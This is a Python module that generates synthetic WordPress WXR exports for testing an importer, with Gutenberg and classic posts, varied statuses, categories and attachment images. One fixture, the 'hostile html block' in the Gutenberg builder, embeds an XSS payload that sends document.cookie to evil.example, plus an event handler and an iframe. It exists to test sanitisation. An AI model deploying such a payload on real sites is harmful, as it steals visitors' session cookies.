"""A generator of realistic WordPress exports (WXR 1.2), for the import's tests and bench.

`write_export(out, posts=N, image_base_url=URL)` writes what WordPress's Tools › Export
writes (wp-admin/includes/export.php: the channel header, wp:author, wp:category with
parents, wp:tag, then items with CDATA bodies and wp:postmeta), streamed to `out`, so
that 100,000 posts cost no more memory than ten. Its posts use every body format the
importer reads:

- the block editor (Gutenberg's block comments): paragraph, heading (2 and 3), lists
  (ordered or not, with list-item blocks), quote with citation, pullquote, image with
  caption and alt, gallery, embed (YouTube), separator, an html block (a harmless one and
  a hostile one, with a script and an event handler);
- the classic editor: paragraphs made of blank lines (wpautop), a [caption] shortcode
  around an image, an h2, a list, a blockquote, and a shortcode no importer knows;

and every status (publish, future, draft, pending, private), password-protected posts
(is_password_protected), drafts and one published post (LOCAL_DATE_ONLY) whose GMT date
is "0000-00-00 00:00:00" as WordPress writes it (only wp:post_date, the site's local
time, Europe/Paris here), featured images with alt text and caption, 3+
authors, a category tree three levels deep, tags, a page and attachment items whose
files live under `image_base_url`/wp-content/uploads/. `image_files()` makes those files
(real JPEG and PNG bytes, one with an ICC profile) for a local server to serve; the
attachment MISSING_IMAGE is never served, so its posts show the importer's placeholder.
"""

from __future__ import annotations

import io
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import TextIO
from xml.sax.saxutils import escape
from zoneinfo import ZoneInfo

SITE_URL = "https://ancien-site.example"
# Posts are dated before this moment, except "future" ones (after it: scheduled).
EPOCH = datetime(2024, 6, 1, 8, 0, 0)
FUTURE = datetime(2099, 1, 15, 7, 30, 0)
AUTHORS = [
    ("claire", "claire.dubois@ancien-site.example", "Claire Dubois"),
    ("mamadou", "mamadou.diallo@ancien-site.example", "Mamadou Diallo"),
    ("helene", "helene.leclerc@ancien-site.example", "Hélène Leclerc"),
    ("jb", "jean-baptiste.morel@ancien-site.example", "Jean-Baptiste Morel"),
]
# (nicename, name, parent nicename): a tree three levels deep (Gazette keeps two).
CATEGORIES = [
    ("international", "International", ""),
    ("politique-internationale", "Politique", "international"),
    ("afrique", "Afrique", "international"),
    ("sahel", "Sahel", "afrique"),
    ("economie", "Économie", ""),
    ("entreprises", "Entreprises", "economie"),
    ("culture", "Culture", ""),
    ("non-classe", "Non classé", ""),
]
TAG_NAMES = [
    "Élections",
    "Climat",
    "Énergie",
    "Santé",
    "Éducation",
    "Justice",
    "Agriculture",
    "Transports",
    "Numérique",
    "Logement",
    "Emploi",
    "Sécurité",
    "Diplomatie",
    "Cinéma",
    "Musique",
    "Littérature",
    "Sport",
    "Météo",
    "Union européenne",
    "Côte d’Ivoire",
]
# Attachments: (file under uploads, is PNG). The last is never served (the 404 case).
IMAGE_COUNT = 12
MISSING_IMAGE = "2023/05/photo-disparue.jpg"
FIRST_ATTACHMENT_ID = 90_000
PRIVATE_EVERY, DRAFT_EVERY, PENDING_EVERY, FUTURE_EVERY = 50, 20, 40, 25
CLASSIC_EVERY = 3  # one post in three comes from the classic editor
# Published posts whose content needs a password (wp:post_password): every hundredth from 10.
PROTECTED_EVERY, PROTECTED_FROM, PROTECTED_PASSWORD = 100, 10, "motdepasse"
# A published post WordPress left without a GMT date (its local date only).
LOCAL_DATE_ONLY = 11
PARIS = ZoneInfo("Europe/Paris")
WORDS = [
    "le",
    "conseil",
    "municipal",
    "a",
    "voté",
    "hier",
    "soir",
    "un",
    "budget",
    "en",
    "hausse",
    "pour",
    "les",
    "écoles",
    "du",
    "quartier",
    "tandis",
    "que",
    "les",
    "habitants",
    "réclament",
    "davantage",
    "de",
    "transports",
    "publics",
    "et",
    "une",
    "piste",
    "cyclable",
    "le",
    "long",
    "du",
    "fleuve",
    "où",
    "les",
    "travaux",
    "doivent",
    "commencer",
    "au",
    "printemps",
    "prochain",
    "selon",
    "la",
    "préfecture",
    "qui",
    "promet",
    "une",
    "concertation",
    "avec",
    "les",
    "riverains",
    "et",
    "les",
    "commerçants",
]


@dataclass
class ExportSummary:
    """What was written: counts by status, the attachment files (under uploads) it uses."""

    posts: int = 0
    by_status: dict[str, int] = field(default_factory=dict)
    image_paths: list[str] = field(default_factory=list)
    missing_image: str = MISSING_IMAGE


def image_paths() -> list[str]:
    """The served attachment files, relative to wp-content/uploads/."""
    return [f"2023/05/photo-{n}.{'png' if n % 4 == 3 else 'jpg'}" for n in range(IMAGE_COUNT - 1)]


def image_files() -> dict[str, bytes]:
    """{path under uploads: real image bytes}: JPEG and PNG photos of varied sizes, the
    first JPEG with an embedded ICC profile (sRGB), each distinct."""
    from PIL import Image, ImageCms, ImageDraw

    files = {}
    for n, path in enumerate(image_paths()):
        image = Image.new("RGB", (640 + 40 * n, 420 + 20 * n), (30 + 17 * n, 90, 160 - 9 * n))
        ImageDraw.Draw(image).ellipse((40, 40, 300, 300), fill=(240, 200 - 10 * n, 40))
        out = io.BytesIO()
        if path.endswith(".png"):
            image.save(out, "PNG")
        elif n == 0:
            profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
            image.save(out, "JPEG", quality=85, icc_profile=profile)
        else:
            image.save(out, "JPEG", quality=85)
        files[path] = out.getvalue()
    return files


def cdata(text: str) -> str:
    """WordPress's wxr_cdata(): CDATA, with "]]>" split across two sections."""
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def write_export(
    out: TextIO, posts: int = 100, image_base_url: str = SITE_URL, seed: int = 15
) -> ExportSummary:
    """Write a WXR 1.2 export of `posts` posts (plus a page and the attachments) to `out`.

    Deterministic for a given seed. Returns what was written (ExportSummary).
    """
    rng = random.Random(seed)
    summary = ExportSummary(image_paths=image_paths())
    uploads = f"{image_base_url.rstrip('/')}/wp-content/uploads/"
    attachments = [*summary.image_paths, MISSING_IMAGE]
    out.write(_header())
    for n, (login, email, name) in enumerate(AUTHORS, start=1):
        out.write(
            f"\t<wp:author><wp:author_id>{n}</wp:author_id>"
            f"<wp:author_login>{cdata(login)}</wp:author_login>"
            f"<wp:author_email>{cdata(email)}</wp:author_email>"
            f"<wp:author_display_name>{cdata(name)}</wp:author_display_name>"
            f"<wp:author_first_name>{cdata(name.split()[0])}</wp:author_first_name>"
            f"<wp:author_last_name>{cdata(name.split()[-1])}</wp:author_last_name>"
            "</wp:author>\n"
        )
    for n, (slug, name, parent) in enumerate(CATEGORIES, start=2):
        out.write(
            f"\t<wp:category><wp:term_id>{n}</wp:term_id>"
            f"<wp:category_nicename>{cdata(slug)}</wp:category_nicename>"
            f"<wp:category_parent>{cdata(parent)}</wp:category_parent>"
            f"<wp:cat_name>{cdata(name)}</wp:cat_name></wp:category>\n"
        )
    for n, name in enumerate(TAG_NAMES, start=100):
        out.write(
            f"\t<wp:tag><wp:term_id>{n}</wp:term_id>"
            f"<wp:tag_slug>{cdata(_slug(name))}</wp:tag_slug>"
            f"<wp:tag_name>{cdata(name)}</wp:tag_name></wp:tag>\n"
        )
    for index, path in enumerate(attachments):
        out.write(_attachment(FIRST_ATTACHMENT_ID + index, uploads + path, index))
    out.write(_page())
    for number in range(1, posts + 1):
        status = _status(number)
        summary.by_status[status] = summary.by_status.get(status, 0) + 1
        out.write(_post(number, status, rng, uploads, attachments))
    summary.posts = posts
    out.write("</channel>\n</rss>\n")
    return summary


def _header() -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" ?>\n'
        "<!-- This is a WordPress eXtended RSS file generated by WordPress as an export of "
        "your site. -->\n"
        '<rss version="2.0"\n'
        '\txmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"\n'
        '\txmlns:content="http://purl.org/rss/1.0/modules/content/"\n'
        '\txmlns:wfw="http://wellformedweb.org/CommentAPI/"\n'
        '\txmlns:dc="http://purl.org/dc/elements/1.1/"\n'
        '\txmlns:wp="http://wordpress.org/export/1.2/"\n>\n<channel>\n'
        "\t<title>L’Ancien Site</title>\n"
        f"\t<link>{SITE_URL}</link>\n"
        "\t<description>Informations locales</description>\n"
        "\t<pubDate>Sat, 01 Jun 2024 08:00:00 +0000</pubDate>\n"
        "\t<language>fr-FR</language>\n"
        "\t<wp:wxr_version>1.2</wp:wxr_version>\n"
        f"\t<wp:base_site_url>{SITE_URL}</wp:base_site_url>\n"
        f"\t<wp:base_blog_url>{SITE_URL}</wp:base_blog_url>\n"
        "\t<generator>https://wordpress.org/?v=6.5.4</generator>\n"
    )


def _slug(name: str) -> str:
    import unicodedata

    ascii_name = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()
    return "-".join("".join(c if c.isalnum() else " " for c in ascii_name).lower().split())


def _status(number: int) -> str:
    """Mostly published; every other status early on too, so that a small export has all."""
    if number % PRIVATE_EVERY == 0 or number == 4:
        return "private"
    if number % PENDING_EVERY == 0 or number == 6:
        return "pending"
    if number % FUTURE_EVERY == 0 or number == 5:
        return "future"
    if number % DRAFT_EVERY == 0 or number == 8:
        return "draft"
    return "publish"


def _item(
    *,
    wp_id: int,
    title: str,
    link: str,
    creator: str,
    content: str,
    excerpt: str,
    date: datetime | None,
    name: str,
    status: str,
    post_type: str,
    extra: str = "",
    gmt_written: bool = True,
    password: str = "",
) -> str:
    """One <item>; `date` is naive UTC, written as wp:post_date_gmt (unless not
    `gmt_written`: "0000-00-00 00:00:00", as for WordPress's drafts) and as wp:post_date,
    the site's time in Europe/Paris."""
    local = _paris(date).strftime("%Y-%m-%d %H:%M:%S") if date else ""
    gmt = date.strftime("%Y-%m-%d %H:%M:%S") if date and gmt_written else "0000-00-00 00:00:00"
    return (
        "\t<item>\n"
        f"\t\t<title>{escape(title)}</title>\n"
        f"\t\t<link>{escape(link)}</link>\n"
        f"\t\t<pubDate>{date.strftime('%a, %d %b %Y %H:%M:%S +0000') if date else ''}</pubDate>\n"
        f"\t\t<dc:creator>{cdata(creator)}</dc:creator>\n"
        f'\t\t<guid isPermaLink="false">{SITE_URL}/?p={wp_id}</guid>\n'
        "\t\t<description></description>\n"
        f"\t\t<content:encoded>{cdata(content)}</content:encoded>\n"
        f"\t\t<excerpt:encoded>{cdata(excerpt)}</excerpt:encoded>\n"
        f"\t\t<wp:post_id>{wp_id}</wp:post_id>\n"
        f"\t\t<wp:post_date>{cdata(local or '0000-00-00 00:00:00')}</wp:post_date>\n"
        f"\t\t<wp:post_date_gmt>{cdata(gmt)}</wp:post_date_gmt>\n"
        f"\t\t<wp:post_modified>{cdata(local or '0000-00-00 00:00:00')}</wp:post_modified>\n"
        f"\t\t<wp:post_modified_gmt>{cdata(gmt)}</wp:post_modified_gmt>\n"
        f"\t\t<wp:comment_status>{cdata('open')}</wp:comment_status>\n"
        f"\t\t<wp:ping_status>{cdata('open')}</wp:ping_status>\n"
        f"\t\t<wp:post_name>{cdata(name)}</wp:post_name>\n"
        f"\t\t<wp:status>{cdata(status)}</wp:status>\n"
        "\t\t<wp:post_parent>0</wp:post_parent>\n"
        "\t\t<wp:menu_order>0</wp:menu_order>\n"
        f"\t\t<wp:post_type>{cdata(post_type)}</wp:post_type>\n"
        f"\t\t<wp:post_password>{cdata(password)}</wp:post_password>\n"
        "\t\t<wp:is_sticky>0</wp:is_sticky>\n"
        f"{extra}\t</item>\n"
    )


def _paris(date: datetime) -> datetime:
    """Naive UTC -> naive wall-clock time in Paris (what WordPress writes in wp:post_date)."""
    return date.replace(tzinfo=UTC).astimezone(PARIS).replace(tzinfo=None)


def _meta(key: str, value: str) -> str:
    return (
        f"\t\t<wp:postmeta><wp:meta_key>{cdata(key)}</wp:meta_key>"
        f"<wp:meta_value>{cdata(value)}</wp:meta_value></wp:postmeta>\n"
    )


def _attachment(wp_id: int, url: str, index: int) -> str:
    date = EPOCH - timedelta(days=400 - index)
    path = url.split("/wp-content/uploads/", 1)[1]
    extra = (
        f"\t\t<wp:attachment_url>{cdata(url)}</wp:attachment_url>\n"
        + _meta("_wp_attached_file", path)
        + _meta("_wp_attachment_image_alt", f"Photo d’illustration n° {index + 1}")
    )
    return _item(
        wp_id=wp_id,
        title=f"photo-{index}",
        link=f"{SITE_URL}/photo-{index}/",
        creator=AUTHORS[0][0],
        content="",
        excerpt=f"Légende de la photo n° {index + 1}" if index % 4 == 1 else "",  # caption
        date=date,
        name=f"photo-{index}",
        status="inherit",
        post_type="attachment",
        extra=extra,
    )


def _page() -> str:
    return _item(
        wp_id=2,
        title="Mentions légales",
        link=f"{SITE_URL}/mentions-legales/",
        creator=AUTHORS[0][0],
        content="<!-- wp:paragraph --><p>Éditeur : L’Ancien Site.</p><!-- /wp:paragraph -->",
        excerpt="",
        date=EPOCH - timedelta(days=900),
        name="mentions-legales",
        status="publish",
        post_type="page",
    )


def _sentence(rng: random.Random, words: int = 14) -> str:
    start = rng.randrange(len(WORDS))
    chosen = [WORDS[(start + i) % len(WORDS)] for i in range(words)]
    return (" ".join(chosen)).capitalize() + "."


def _image_url(uploads: str, path: str, sized: bool) -> str:
    """The attachment's file, or WordPress's 1024-wide copy of it (as bodies show)."""
    if not sized:
        return uploads + path
    stem, extension = path.rsplit(".", 1)
    return f"{uploads}{stem}-1024x683.{extension}"


def _gutenberg(number: int, rng: random.Random, uploads: str, attachments: list[str]) -> str:
    image = number % (len(attachments) - 1)
    image_id = FIRST_ATTACHMENT_ID + image
    second = (image + 1) % (len(attachments) - 1)
    parts = [
        f"<!-- wp:paragraph -->\n<p>{_sentence(rng)} <strong>{_sentence(rng, 4)}</strong> "
        f'<a href="https://example.org/source">{_sentence(rng, 3)}</a></p>\n<!-- /wp:paragraph -->',
        '<!-- wp:heading -->\n<h2 class="wp-block-heading">Ce que dit le rapport</h2>\n'
        "<!-- /wp:heading -->",
        f"<!-- wp:paragraph -->\n<p>{_sentence(rng, 30)}</p>\n<!-- /wp:paragraph -->",
        f'<!-- wp:image {{"id":{image_id},"sizeSlug":"large","linkDestination":"none"}} -->\n'
        f'<figure class="wp-block-image size-large"><img src="'
        f'{_image_url(uploads, attachments[image], True)}" alt="Le quai au lever du jour" '
        f'class="wp-image-{image_id}"/><figcaption class="wp-element-caption">'
        f"Le quai, mardi matin.</figcaption></figure>\n<!-- /wp:image -->",
        '<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading">Les chiffres</h3>\n'
        "<!-- /wp:heading -->",
        '<!-- wp:list -->\n<ul class="wp-block-list"><!-- wp:list-item -->\n<li>Écoles : '
        "+12 %</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>Transports : "
        "+4 %</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->",
        '<!-- wp:list {"ordered":true} -->\n<ol class="wp-block-list"><!-- wp:list-item -->\n'
        "<li>Consultation</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>Vote</li>\n"
        "<!-- /wp:list-item --></ol>\n<!-- /wp:list -->",
        '<!-- wp:quote -->\n<blockquote class="wp-block-quote"><!-- wp:paragraph -->\n'
        f"<p>{_sentence(rng, 12)}</p>\n<!-- /wp:paragraph --><cite>La maire</cite></blockquote>\n"
        "<!-- /wp:quote -->",
        '<!-- wp:pullquote -->\n<figure class="wp-block-pullquote"><blockquote><p>'
        f"{_sentence(rng, 8)}</p><cite>Un riverain</cite></blockquote></figure>\n"
        "<!-- /wp:pullquote -->",
        "<!-- wp:separator -->\n"
        '<hr class="wp-block-separator has-alpha-channel-opacity"/>\n<!-- /wp:separator -->',
        '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video",'
        '"providerNameSlug":"youtube","responsive":true} -->\n<figure class="wp-block-embed '
        'is-type-video is-provider-youtube wp-block-embed-youtube"><div '
        'class="wp-block-embed__wrapper">\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n'
        "</div><figcaption>La séance en vidéo</figcaption></figure>\n<!-- /wp:embed -->",
        '<!-- wp:gallery {"linkTo":"none"} -->\n<figure class="wp-block-gallery '
        'has-nested-images columns-default is-cropped">'
        + "".join(
            f'<!-- wp:image {{"id":{FIRST_ATTACHMENT_ID + i}}} -->\n<figure class="wp-block-image">'
            f'<img src="{_image_url(uploads, attachments[i], False)}" alt="Galerie {i}" '
            f'class="wp-image-{FIRST_ATTACHMENT_ID + i}"/></figure>\n<!-- /wp:image -->'
            for i in (image, second)
        )
        + "</figure>\n<!-- /wp:gallery -->",
        "<!-- wp:html -->\n<p>Encadré : <em>horaires de la mairie</em></p>\n<!-- /wp:html -->",
    ]
    if number % 10 == 1:  # a hostile html block
        parts.append(
            '<!-- wp:html -->\n<div onmouseover="steal()"><script>document.location='
            "'https://evil.example/?c='+document.cookie</script><iframe "
            'src="https://evil.example"></iframe></div>\n<!-- /wp:html -->'
        )
    if number % 7 == 0:  # the image the old site lost
        parts.append(
            f'<!-- wp:image {{"id":{FIRST_ATTACHMENT_ID + len(attachments) - 1}}} -->\n'
            f'<figure class="wp-block-image"><img src="{uploads}{MISSING_IMAGE}" '
            f'alt="Photo perdue" class="wp-image-{FIRST_ATTACHMENT_ID + len(attachments) - 1}"/>'
            "</figure>\n<!-- /wp:image -->"
        )
    return "\n\n".join(parts)


def _classic(number: int, rng: random.Random, uploads: str, attachments: list[str]) -> str:
    image = (number + 3) % (len(attachments) - 1)
    image_id = FIRST_ATTACHMENT_ID + image
    return (
        f"{_sentence(rng)} <em>{_sentence(rng, 3)}</em>\n\n"
        f"{_sentence(rng, 20)}\nSuite de la même phrase après un retour à la ligne.\n\n"
        f'[caption id="attachment_{image_id}" align="aligncenter" width="1024"]<img '
        f'class="size-large wp-image-{image_id}" src="{_image_url(uploads, attachments[image], True)}" '
        f'alt="Le marché couvert" width="1024" height="683" /> Le marché couvert, samedi.'
        "[/caption]\n\n"
        "<h2>Réactions</h2>\n"
        f"{_sentence(rng, 16)}\n\n"
        "<ul>\n<li>Les commerçants approuvent</li>\n<li>Les riverains s’inquiètent</li>\n</ul>\n\n"
        f"<blockquote>{_sentence(rng, 10)}</blockquote>\n\n"
        '[contact-form-7 id="42" title="Contact"]\n\n'
        f"{_sentence(rng, 12)}"
    )


def _post(
    number: int, status: str, rng: random.Random, uploads: str, attachments: list[str]
) -> str:
    wp_id = 1000 + number
    date = (
        FUTURE + timedelta(days=number)
        if status == "future"
        else (EPOCH - timedelta(hours=7 * number))
    )
    title = f"{_sentence(rng, 7)[:-1]} ({number})"
    name = _slug(title)[:180] if status in ("publish", "future", "private") else ""
    classic = number % CLASSIC_EVERY == 0
    content = (_classic if classic else _gutenberg)(number, rng, uploads, attachments)
    category = CATEGORIES[number % len(CATEGORIES)]
    tags = [TAG_NAMES[(number + k * 7) % len(TAG_NAMES)] for k in range(number % 4)]
    extra = f'\t\t<category domain="category" nicename="{category[0]}">{cdata(category[1])}</category>\n'
    extra += "".join(
        f'\t\t<category domain="post_tag" nicename="{_slug(tag)}">{cdata(tag)}</category>\n'
        for tag in tags
    )
    if number % 2 == 1:  # a featured image on one post in two
        extra += _meta("_thumbnail_id", str(FIRST_ATTACHMENT_ID + number % (len(attachments) - 1)))
    extra += _meta("_edit_last", "1")
    day = date.strftime("%Y/%m/%d")
    link = f"{SITE_URL}/{day}/{name}/" if name else f"{SITE_URL}/?p={wp_id}"
    return _item(
        wp_id=wp_id,
        title=title,
        link=link,
        creator=AUTHORS[number % len(AUTHORS)][0],
        content=content,
        excerpt=_sentence(rng, 18) if number % 2 == 0 else "",
        date=date,
        # WordPress dates a draft in local time only; and some published posts too.
        gmt_written=not (
            (status in ("draft", "pending") and number % 3 == 0) or number == LOCAL_DATE_ONLY
        ),
        name=name,
        status=status,
        post_type="post",
        extra=extra,
        password=PROTECTED_PASSWORD if is_password_protected(number) else "",
    )


def is_password_protected(number: int) -> bool:
    """Whether post `number` (1-based) needs a password on the old site."""
    return number % PROTECTED_EVERY == PROTECTED_FROM and _status(number) == "publish"


def iter_statuses(posts: int) -> Iterator[str]:
    """The status of each post number 1..posts, as write_export gives them."""
    return (_status(number) for number in range(1, posts + 1))


__all__ = [
    "write_export",
    "image_files",
    "image_paths",
    "ExportSummary",
    "iter_statuses",
    "is_password_protected",
]
